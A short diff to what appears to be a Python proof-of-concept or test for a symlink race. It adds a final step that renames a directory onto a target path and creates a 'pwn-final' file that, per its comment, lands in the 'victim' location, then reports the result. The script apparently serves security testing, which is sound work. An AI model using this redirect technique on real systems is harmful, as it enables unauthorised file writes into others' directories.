@@ -35,4 +35,12 @@ for i in range(n):
             pass
 stop = True
 t.join()
-print("done", hits)
+# And once without a race, the symlink in place: natively this lands in
+# the victim whatever the scheduling did above.
+try:
+    os.rename(os.path.join(base, "dl"), d)
+    os.close(os.open(f"{d}/pwn-final", os.O_CREAT | os.O_WRONLY, 0o644))
+    final = "created"
+except OSError as e:
+    final = os.strerror(e.errno)
+print("done", hits, "final", final)
